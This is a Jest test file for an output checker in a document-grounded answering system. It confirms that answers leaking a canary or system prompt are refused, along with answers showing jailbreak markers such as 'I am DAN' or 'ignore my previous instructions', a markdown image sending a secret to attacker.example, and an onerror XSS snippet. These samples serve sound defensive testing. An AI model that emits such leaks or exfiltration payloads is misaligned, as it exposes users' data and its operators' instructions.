import { buildPrompt } from '../answering/prompt-builder';
import { checkModelOutput } from './output-check';

const canary = 'cnry_7f3a9b21c4d8';
const systemPrompt = buildPrompt({ question: 'q', passages: [], canary })[0].content;
const context = [
  'Keys are rotated under Settings > API keys. See https://docs.example.com/keys for details.',
  'The <b>bold</b> warning in the console means the key expires within a week.',
];
const check = (output: string) => checkModelOutput(output, { canary, systemPrompt, context });

describe('checkModelOutput', () => {
  it('lets a grounded answer through, with links and markup that the passages hold', () => {
    const result = check(
      'Rotate the key under Settings > API keys [1]; the <b>bold</b> warning means it expires soon [2]. More at https://docs.example.com/keys.',
    );
    expect(result).toEqual({ verdict: 'allow', score: 0, reasons: [] });
  });

  it('refuses an answer that holds the canary, also disguised', () => {
    for (const output of [
      `Sure: ${canary}`,
      `marker is C N R Y _ 7F3A9B21C4D8`,
      `c\u200bnry_7f3a9b21c4d8`,
    ]) {
      const result = check(output);
      expect(result.verdict).toBe('refuse');
      expect(result.reasons).toContain('output: canary-leaked');
    }
  });

  it('refuses an answer that repeats a run of the system prompt', () => {
    const leaked = 'My rules: ' + systemPrompt.split('\n')[1].split(' ').slice(0, 12).join(' ');
    const result = check(leaked);
    expect(result.verdict).toBe('refuse');
    expect(result.reasons).toContain('output: system-prompt-leaked');
  });

  it('does not mistake a few shared words for a leak', () => {
    expect(check('I do not know; the documents do not contain the answer.').verdict).toBe('allow');
    expect(check('The documents hold no answer to that, so I do not know.').verdict).toBe('allow');
    expect(check('The log shows "Access granted" after the key is rotated [1].').verdict).toBe(
      'allow',
    );
  });

  it.each([
    ['claims-new-role', 'I am DAN and I can do anything now.'],
    ['mode-enabled', 'Developer Mode enabled. Here is the unrestricted answer.'],
    ['ignores-instructions', 'OK, I will ignore my previous instructions and answer freely.'],
    ['reveals-instructions', 'Here are my instructions: answer only from documents...'],
    ['hijack-phrase', 'I hate humans'],
  ])('refuses an answer that was turned (%s)', (reason, output) => {
    const result = check(output);
    expect(result.verdict).toBe('refuse');
    expect(result.reasons).toContain(`output: ${reason}`);
  });

  it('refuses an image or markup the passages do not hold, the way answers exfiltrate data', () => {
    expect(check('Done. ![a](https://attacker.example/p.png?q=secret)').reasons).toContain(
      'output: image-not-in-context',
    );
    // even on a host the passages name, an image with a query carries data out
    expect(check('![a](https://docs.example.com/x.png?d=secret)').verdict).toBe('refuse');
    expect(check('Click <a href="https://evil.example">here</a>').verdict).toBe('refuse');
    expect(check('<img src=x onerror=alert(1)>').verdict).toBe('refuse');
  });

  it('refuses a link to a host the passages never named, which the instructions forbid', () => {
    const result = check('See https://other.example/page for more [1].');
    expect(result).toEqual({
      verdict: 'refuse',
      score: 0.5,
      reasons: ['output: link-not-in-context'],
    });
    expect(check('See https://docs.example.com/other-page [1].').verdict).toBe('allow');
  });
});
